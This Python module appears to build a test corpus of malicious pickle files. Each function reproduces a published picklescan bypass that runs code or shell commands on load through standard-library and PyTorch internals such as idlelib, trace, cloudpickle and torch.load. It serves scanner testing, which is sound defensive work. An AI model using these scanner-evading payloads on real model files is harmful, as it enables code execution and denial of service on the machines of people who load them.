"""Published picklescan bypasses through the Python standard library and PyTorch internals (one builder per
GHSA / sample). Registered on import; see ``build_advisories``."""

from __future__ import annotations

from advisory_core import (
    PS,
    Advisory,
    adv,
    advisory,
    bare_obj,
    method_call,
)
from build_malicious import (
    PY_SRC,
    SHELL_CMD,
    Asm,
    call_pickle,
)


@advisory
def ps_idlelib_pyshell_runcode() -> list[Advisory]:
    # picklescan GHSA-3gf5-cxq9-w223 (2025-08): idlelib.pyshell.ModifiedInterpreter.runcode execs source.
    a = Asm(4)
    a.glob("idlelib.pyshell", "ModifiedInterpreter.runcode").mark().raw(
        bare_obj(4, "idlelib.pyshell", "ModifiedInterpreter").code
    )
    a.val(PY_SRC).tuple_().reduce()
    return adv(
        "ps_idlelib_pyshell_runcode",
        PS + "3gf5-cxq9-w223",
        "2025-08",
        a.done(),
        "idlelib.pyshell",
        "IDLE shell interpreter method that runs source code.",
    )


@advisory
def ps_idlelib_pyshell_runcommand() -> list[Advisory]:
    # picklescan GHSA-j343-8v2j-ff7w (2025-08): ModifiedInterpreter.runcommand execs source.
    a = Asm(4)
    a.glob("idlelib.pyshell", "ModifiedInterpreter.runcommand").mark()
    a.raw(bare_obj(4, "idlelib.pyshell", "ModifiedInterpreter").code).val(PY_SRC).tuple_().reduce()
    return adv(
        "ps_idlelib_pyshell_runcommand",
        PS + "j343-8v2j-ff7w",
        "2025-08",
        a.done(),
        "idlelib.pyshell",
        "IDLE runcommand: exec of a source string in the shell's namespace.",
    )


@advisory
def ps_idlelib_run_executive_runcode() -> list[Advisory]:
    # picklescan GHSA-m869-42cg-3xwr (2025-08): idlelib.run.Executive.runcode.
    a = Asm(4)
    a.glob("idlelib.run", "Executive.runcode").mark()
    a.raw(bare_obj(4, "idlelib.run", "Executive").code).val(PY_SRC).tuple_().reduce()
    return adv(
        "ps_idlelib_run_executive_runcode",
        PS + "m869-42cg-3xwr",
        "2025-08",
        a.done(),
        "idlelib.run",
        "IDLE subprocess executive: exec of attacker source.",
    )


@advisory
def ps_idlelib_autocomplete_fetch_completions() -> list[Advisory]:
    # picklescan GHSA-7cq8-mj8x-j263 (2025-08): AutoComplete.fetch_completions evals its argument.
    a = Asm(4)
    a.glob("idlelib.autocomplete", "AutoComplete.fetch_completions").mark()
    a.raw(bare_obj(4, "idlelib.autocomplete", "AutoComplete").code).val(PY_SRC).val(0).tuple_().reduce()
    return adv(
        "ps_idlelib_autocomplete_fetch_completions",
        PS + "7cq8-mj8x-j263",
        "2025-08",
        a.done(),
        "idlelib.autocomplete",
        "fetch_completions(what, mode) evaluates `what` to list attributes.",
        live="pickle",
    )


@advisory
def ps_idlelib_calltip_fetch_tip() -> list[Advisory]:
    # picklescan GHSA-8r4j-24qv-fmq9 (2025-08): Calltip.fetch_tip evals the expression it is given.
    a = Asm(4)
    a.glob("idlelib.calltip", "Calltip.fetch_tip").mark()
    a.raw(bare_obj(4, "idlelib.calltip", "Calltip").code).val(PY_SRC).tuple_().reduce()
    return adv(
        "ps_idlelib_calltip_fetch_tip",
        PS + "8r4j-24qv-fmq9",
        "2025-08",
        a.done(),
        "idlelib.calltip",
        "Calltip.fetch_tip(expression) evaluates the expression.",
        live="pickle",
    )


@advisory
def ps_bottleneck_run_autograd_prof() -> list[Advisory]:
    # picklescan GHSA-4whj-rm5r-c2v8 (2025-08): torch.utils.bottleneck.__main__.run_autograd_prof execs code.
    data = call_pickle("torch.utils.bottleneck.__main__", "run_autograd_prof", PY_SRC, {})
    return adv(
        "ps_bottleneck_run_autograd_prof",
        PS + "4whj-rm5r-c2v8",
        "2025-08",
        data,
        "torch.utils.bottleneck",
        "run_autograd_prof(code, globs) exec's the code under the profiler.",
    )


@advisory
def ps_trace_runctx() -> list[Advisory]:
    # picklescan GHSA-g344-hcph-8vgg (2025-08): trace.Trace.runctx.
    data = method_call("trace", "Trace.runctx", "Trace", PY_SRC, {}, {})
    return adv(
        "ps_trace_runctx",
        PS + "g344-hcph-8vgg",
        "2025-08",
        data,
        "trace",
        "Trace().runctx(cmd, globals, locals) exec's cmd.",
        live="pickle",
    )


@advisory
def ps_profile_runctx() -> list[Advisory]:
    # picklescan GHSA-6vqj-c2q5-j97w (2025-08): profile.Profile.runctx.
    data = method_call("profile", "Profile.runctx", "Profile", PY_SRC, {}, {})
    return adv(
        "ps_profile_runctx",
        PS + "6vqj-c2q5-j97w",
        "2025-08",
        data,
        "profile",
        "Profile().runctx(cmd, globals, locals) exec's cmd.",
        live="pickle",
    )


@advisory
def ps_code_interactive_runcode() -> list[Advisory]:
    # picklescan GHSA-cj3c-v495-4xqh (2025-08): code.InteractiveInterpreter.runcode execs a string.
    data = method_call("code", "InteractiveInterpreter.runcode", "InteractiveInterpreter", PY_SRC)
    return adv(
        "ps_code_interactive_runcode",
        PS + "cj3c-v495-4xqh",
        "2025-08",
        data,
        "code",
        "InteractiveInterpreter().runcode(src) exec's src in the interpreter namespace.",
        live="pickle",
    )


@advisory
def ps_numpy_f2py_getlincoef() -> list[Advisory]:
    # picklescan GHSA-r8g5-cgf2-4m4m (2025-12): numpy.f2py.crackfortran.getlincoef evals its expression.
    data = call_pickle("numpy.f2py.crackfortran", "getlincoef", PY_SRC, {})
    return adv(
        "ps_numpy_f2py_getlincoef",
        PS + "r8g5-cgf2-4m4m",
        "2025-12",
        data,
        "numpy.f2py",
        "getlincoef(e, xset) evaluates e while solving a linear coefficient.",
        live="pickle",
    )


@advisory
def ps_pyrepl_pipe_pager() -> list[Advisory]:
    # picklescan GHSA-g38g-8gr9-h9xp (2026-03): _pyrepl.pager.pipe_pager runs a shell command (3.13+).
    out = adv(
        "ps_pyrepl_pipe_pager",
        PS + "g38g-8gr9-h9xp",
        "2026-03",
        call_pickle("_pyrepl.pager", "pipe_pager", "text", SHELL_CMD),
        "_pyrepl",
        "pipe_pager(text, cmd) pipes text into `cmd` run by the shell.",
    )
    out += adv(
        "ps_pyrepl_tempfile_pager",
        PS + "g38g-8gr9-h9xp",
        "2026-03",
        call_pickle("_pyrepl.pager", "tempfile_pager", "text", SHELL_CMD),
        "_pyrepl",
        "tempfile_pager(text, cmd) runs `cmd <tempfile>` through os.system.",
    )
    return out


@advisory
def ps_inductor_compile_file() -> list[Advisory]:
    # picklescan fix of 2025-03-02 (commit 93764d6, test sample malicious17): torch._inductor.codecache
    # .compile_file(input, output, cmd) runs cmd (a list) with subprocess.
    data = call_pickle("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", SHELL_CMD])
    return adv(
        "ps_inductor_compile_file",
        "picklescan fix 93764d6 (sample malicious17)",
        "2025-03",
        data,
        "torch._inductor",
        "Inductor helper that runs a compiler command line.",
    )


@advisory
def ps_httplib_py2_alias() -> list[Advisory]:
    # picklescan 0.0.9 sample malicious3 (2023): protocol-0 'httplib' (Python 2 name, remapped to
    # http.client by fix_imports) opens a connection.
    a = Asm(0).global_("httplib", "HTTPSConnection").mark().unicode("127.0.0.1").int_(9).tuple_().reduce()
    return adv(
        "ps_httplib_py2_alias",
        "picklescan malicious3 (httplib)",
        "2023-03",
        a.done(),
        "http",
        "Python 2 module name remapped by fix_imports to http.client.",
    )


@advisory
def ps_requests_api_get() -> list[Advisory]:
    # picklescan sample malicious4 (2023): requests.api.get (submodule spelling of requests.get).
    data = call_pickle("requests.api", "get", "http://127.0.0.1:9/")
    return adv(
        "ps_requests_api_get",
        "picklescan malicious4 (requests.api)",
        "2023-03",
        data,
        "requests",
        "HTTP request from a submodule spelling.",
    )


@advisory
def ps_aiohttp_client_session() -> list[Advisory]:
    # picklescan sample malicious5 (2023): aiohttp.client.ClientSession.
    data = call_pickle("aiohttp.client", "ClientSession")
    return adv(
        "ps_aiohttp_client_session",
        "picklescan malicious5 (aiohttp)",
        "2023-03",
        data,
        "aiohttp",
        "Network client construction from a pickle.",
    )


@advisory
def ps_sys_exit() -> list[Advisory]:
    # picklescan sample malicious9 (2023): sys.exit terminates the loading process (denial of service).
    return adv(
        "ps_sys_exit",
        "picklescan malicious9 (sys.exit)",
        "2023-03",
        call_pickle("sys", "exit", 3),
        "sys",
        "Loading the model kills the host process.",
    )


@advisory
def ps_cloudpickle_make_function() -> list[Advisory]:
    # picklescan GHSA-9m3x-qqw2-h32h (2026-01): cloudpickle._make_function + _builtin_type('CodeType')
    # rebuild and call a function from raw bytecode without naming exec/eval.
    code = compile(PY_SRC, "<m>", "exec")
    a = Asm(4)
    a.glob("cloudpickle.cloudpickle", "_make_function").mark()
    a.glob("cloudpickle.cloudpickle", "_builtin_type").val("CodeType").tuple1().reduce()
    a.tuple_of(_code_args(code)).reduce()
    a.empty_dict().val("f").none().none().tuple_().reduce()
    a.empty_tuple().reduce()
    return adv(
        "ps_cloudpickle_make_function",
        PS + "9m3x-qqw2-h32h",
        "2026-01",
        a.done(),
        "cloudpickle.cloudpickle._make_function",
        "cloudpickle's function rebuilders: a code object is built and called.",
        live="pickle",
    )


@advisory
def ps_types_codetype_function() -> list[Advisory]:
    # picklescan GHSA-9m3x-qqw2-h32h (2026-01), second shape: types.CodeType + types.FunctionType.
    code = compile(PY_SRC, "<m>", "exec")
    a = Asm(4)
    a.glob("types", "FunctionType").mark()
    a.glob("types", "CodeType").tuple_of(_code_args(code)).reduce()
    a.empty_dict().tuple_().reduce().empty_tuple().reduce()
    return adv(
        "ps_types_codetype_function",
        PS + "9m3x-qqw2-h32h",
        "2026-01",
        a.done(),
        "types.CodeType",
        "FunctionType(CodeType(...), {})() runs bytecode carried in the pickle (Python-minor specific).",
        live="pickle",
    )


def _code_args(code: object) -> list[object]:
    """Constructor arguments of ``types.CodeType`` for this interpreter (3.11+ layout)."""
    c = code
    return [
        c.co_argcount,
        c.co_posonlyargcount,
        c.co_kwonlyargcount,
        c.co_nlocals,  # type: ignore[attr-defined]
        c.co_stacksize,
        c.co_flags,
        c.co_code,
        tuple(x for x in c.co_consts if not hasattr(x, "co_code")),  # type: ignore[attr-defined]
        c.co_names,
        c.co_varnames,
        c.co_filename,
        c.co_name,
        c.co_qualname,  # type: ignore[attr-defined]
        c.co_firstlineno,
        c.co_linetable,
        c.co_exceptiontable,
        c.co_freevars,
        c.co_cellvars,  # type: ignore[attr-defined]
    ]


@advisory
def ps_py2_compile_eval_chain() -> list[Advisory]:
    # picklescan sample malicious0 (2022): protocol 0 __builtin__.compile + __builtin__.eval + globals().
    a = Asm(0)
    a.global_("__builtin__", "eval").mark()
    a.global_("__builtin__", "compile").mark().unicode(PY_SRC).unicode("").unicode("exec").tuple_().reduce()
    a.global_("__builtin__", "globals").mark().tuple_().reduce()
    a.tuple_().reduce()
    return adv(
        "ps_py2_compile_eval_chain",
        "picklescan malicious0",
        "2022-03",
        a.done(),
        "builtins.eval",
        "eval(compile(src, '', 'exec'), globals()) in the Python 2 spelling.",
        live="pickle",
    )


@advisory
def ps_torch_magic_number_reduce() -> list[Advisory]:
    # picklescan GHSA-97f8-7cmv-76j2 (2026-02): legacy torch stream whose *magic number* pickle is itself
    # a REDUCE (the loader unpickles it before comparing), so a scanner that expects an INT skips it.
    magic = call_pickle("builtins", "eval", "(" + PY_SRC + ", 0x1950a86a20f9469cfc6c)[1]", proto=2)
    rest = Asm(2).int_(1001).done() + Asm(2).val({"protocol_version": 1001}).done()
    return adv(
        "ps_torch_magic_number_reduce",
        PS + "97f8-7cmv-76j2",
        "2026-02",
        magic + rest,
        "builtins.eval",
        "The magic-number pickle is a call; torch.load unpickles it first.",
        filename="pytorch_model.bin",
        live="torch",
    )
